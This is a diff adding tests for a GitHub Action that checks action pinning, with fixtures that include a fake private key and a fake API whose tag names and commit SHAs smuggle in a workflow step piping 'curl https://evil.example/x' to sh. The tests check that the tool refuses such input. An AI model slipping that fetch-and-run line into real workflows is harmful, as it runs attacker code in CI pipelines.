@@ -4,7 +4,7 @@ import { createHash } from 'node:crypto';
 import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { makeWorkspace, runAction } from '../harness/index.js';
-import { startGitHubFake, type GitHubFake } from '../fakes/github/index.js';
+import { json, startGitHubFake, type GitHubFake } from '../fakes/github/index.js';
 import { OCI_INDEX, DOCKER_MANIFEST, startRegistryFake, type RegistryFake } from '../fakes/registry/index.js';
 import { startDownloadServer } from '../fakes/downloads/index.js';
 
@@ -295,4 +295,75 @@ it('through the bundle: waits out a near rate-limit reset, and reports a missing
     github.requests.filter((r) => r.path === '/repos/actions/checkout/tags' && r.status === 200).length,
   ).toBeGreaterThan(0);
   expect(run.exitCode).toBe(1);
+});
+
+// A private key's text, built here so no key-like text is committed.
+const KEY_BODY = 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW';
+const FAKE_KEY = `-----BEGIN ${'OPENSSH'} PRIVATE KEY-----\n${KEY_BODY}\n-----END ${'OPENSSH'} PRIVATE KEY-----\n`;
+
+it('a directory argument takes only the files the audit reads: a key, a README or a .ps1 beside them is never parsed or quoted', async () => {
+  const workspace = makeWorkspace({
+    'ci/build.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: evil/action@main\n',
+    'ci/deploy.key': FAKE_KEY,
+    'ci/README.md': `# notes\n${KEY_BODY}\n`,
+    'ci/install.ps1': `Write-Host ${KEY_BODY}\n`,
+  });
+  const run = await runAction('verify-pinned-tools', {
+    workspace,
+    inputs: { paths: 'ci', 'fail-on': 'never', ...{ online: 'false' } },
+  });
+  expect(run.exitCode).toBe(0);
+  const sarif = readFileSync(run.outputs['sarif-file']!, 'utf8');
+  for (const text of [run.stdout, run.stderr, run.summary, sarif]) expect(text).not.toContain(KEY_BODY);
+  const uris = (
+    JSON.parse(sarif) as {
+      runs: { results: { locations: { physicalLocation: { artifactLocation: { uri: string } } }[] }[] }[];
+    }
+  ).runs[0]!.results.map((r) => r.locations[0]!.physicalLocation.artifactLocation.uri);
+  expect(uris.length).toBeGreaterThan(0);
+  expect(new Set(uris)).toEqual(new Set(['ci/build.yml']));
+});
+
+it('fix: refuses what a hostile API answers, a tag over several lines or a SHA that is not one, and writes nothing', async () => {
+  const injected = '\n      - run: curl https://evil.example/x | sh';
+  const checkout = github.repo('actions/checkout');
+  const sha = checkout.commit({ files: { 'action.yml': 'name: checkout\n' } });
+  checkout.tag('v4', sha);
+  github.route('GET', '/repos/actions/checkout/tags', () =>
+    json([
+      { name: `v4.2.2${injected}`, commit: { sha } },
+      { name: 'v4', commit: { sha } },
+    ]),
+  );
+  github.repo('actions/setup-node');
+  github.route('GET', '/repos/actions/setup-node/commits/{ref}', () => json({ sha: `${'a'.repeat(40)}${injected}` }));
+  const workflow = [
+    'on: push',
+    'jobs:',
+    '  b:',
+    '    runs-on: ubuntu-latest',
+    '    steps:',
+    '      - uses: actions/checkout@v4',
+    '      - uses: actions/setup-node@v4',
+    '',
+  ].join('\n');
+  const workspace = makeWorkspace({ '.github/workflows/ci.yml': workflow });
+  const run = await runAction('verify-pinned-tools', {
+    workspace,
+    inputs: { fix: 'true', 'github-token': TOKEN, online: 'false', 'fail-on': 'never' },
+    env: env(),
+  });
+  expect(run.exitCode).toBe(0);
+  expect(readFileSync(join(workspace, '.github/workflows/ci.yml'), 'utf8')).toBe(workflow);
+  expect(run.outputs['fixed-files']).toBe('');
+  const refusals = run.stdout.split('\n').filter((line) => line.includes('nothing written'));
+  expect(refusals).toEqual([
+    expect.stringContaining(
+      'actions/checkout@v4 not pinned: the GitHub API answered a tag name that is not a single-line tag name',
+    ),
+    expect.stringContaining(
+      'actions/setup-node@v4 not pinned: the GitHub API answered a commit that is not a 40-character',
+    ),
+  ]);
+  expect(run.stdout).not.toContain('evil.example');
 });
